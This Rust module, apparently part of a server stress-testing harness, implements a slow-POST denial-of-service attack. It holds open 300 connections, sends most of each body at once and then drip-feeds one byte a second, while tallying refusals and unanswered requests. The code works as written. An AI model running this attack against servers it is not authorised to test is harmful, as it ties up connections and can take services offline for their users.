//! 300 bodies of which most arrives and then a byte a second. At the end the rest is sent.

use crate::{
    attacker::Attacker,
    client::{Client, note, read_answer},
};
use std::{io, time::Duration};
use tokio::io::{AsyncWriteExt as _, BufReader};

/// The number of bodies.
const BODIES: usize = 300;
/// The length of a body, and how much of it arrives at once.
const LENGTH: usize = 60_000;
const BEGINNING: usize = 50_000;
/// The first so many addresses, so that the others have connections left for other attacks.
const FROM: u8 = 4;

pub(super) async fn run(attacker: Attacker) {
    if attacker.number < FROM {
        attacker
            .repeat(BODIES, async |connection| {
                let client = &connection.client;
                client.tally.request();
                let sent = send(&attacker, client).await;
                sent.inspect_err(|_| client.tally.unanswered()).ok()
            })
            .await;
    }
}

async fn send(attacker: &Attacker, client: &Client) -> io::Result<()> {
    let head = format!(
        "POST /api/records HTTP/1.1\r\nhost: {}\r\ncontent-type: application/x-ndjson\r\n\
         content-length: {LENGTH}\r\n\r\n",
        client.server
    );
    let mut stream = BufReader::new(client.tcp().await?);
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&vec![b' '; BEGINNING]).await?;
    stream.flush().await?;
    let mut left = LENGTH - BEGINNING;
    // An answer before the body is complete is a refusal.
    while left > 0 && stream.buffer().is_empty() {
        let bytes = if attacker.is_over() { left } else { 1 };
        let sent = stream.get_mut().write_all(&vec![b' '; bytes]).await;
        left -= bytes;
        if sent.is_err() {
            break;
        }
        tokio::select! {
            _ = tokio::io::AsyncBufReadExt::fill_buf(&mut stream) => break,
            () = attacker.pause(Duration::from_secs(1)) => {}
        }
    }
    note(&client.tally, &read_answer(&mut stream).await?);
    Ok(())
}
